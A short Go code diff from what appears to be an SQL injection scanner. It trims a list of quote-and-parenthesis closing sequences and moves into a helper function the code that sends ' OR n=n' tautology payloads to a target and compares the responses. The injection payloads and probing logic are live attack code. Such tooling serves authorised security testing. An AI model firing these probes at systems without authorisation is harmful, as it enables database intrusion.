@@ -33,7 +33,7 @@ var errEnough = errs.E(errs.Invalid, "requests for one point are spent")
 
 // closings end what the value may stand in; those in which no quote is fit where quotes
 // are refused.
-var closings = []string{"'", "')", "'))", "%'", "%')", `"`, `")`, "", ")", "))"}
+var closings = []string{"'", "')", "'))", "%'", "%')", `"`, "", ")", "))"}
 
 // A union holds what is known of the statement while rows are added to it.
 type union struct {
@@ -195,28 +195,36 @@ func (u *union) unseen() error {
 	if !u.widens() {
 		return nil
 	}
-	usual := []*attack.Page{u.read(u.base.First, ""), u.read(u.base.Second, ""), u.read(u.broken, u.Breaking())}
+	usual := slices.Concat(u.pages, []*attack.Page{u.read(u.base.First, ""), u.read(u.base.Second, ""), u.read(u.broken, u.Breaking())})
 	for _, closing := range []string{"", ")"} {
-		var gained []*attack.Page
-		for range 2 {
-			n := u.Number(1000, 9999)
-			payload := anywhere(u.value, closing, fmt.Sprintf(" OR %d=%d", n, n))
-			resp, err := u.ask(payload)
-			if err != nil {
-				return err
-			}
-			if gained = append(gained, u.read(resp, payload)); len(attack.Steady(gained, usual)) == 0 {
-				gained = nil
-				break
-			}
+		gains, err := u.gains(closing, usual)
+		if err != nil {
+			return err
 		}
-		if gained == nil {
-			continue
+		if gains {
+			_, err := u.guess(closing)
+			return err
 		}
-		_, err := u.guess(closing)
-		return err
 	}
 	return nil
+}
+
+// gains reports whether pages with a condition that is true have words that none has
+// without an attack, each time.
+func (u *union) gains(closing string, usual []*attack.Page) (bool, error) {
+	var gained []*attack.Page
+	for range fewSamples {
+		n := u.Number(1000, 9999)
+		payload := anywhere(u.value, closing, fmt.Sprintf(" OR %d=%d", n, n))
+		resp, err := u.ask(payload)
+		if err != nil {
+			return false, err
+		}
+		if gained = append(gained, u.read(resp, payload)); len(attack.Steady(gained, usual)) == 0 {
+			return false, nil
+		}
+	}
+	return true, nil
 }
 
 // fit looks for what closes the place that the value stands in: the statement then takes
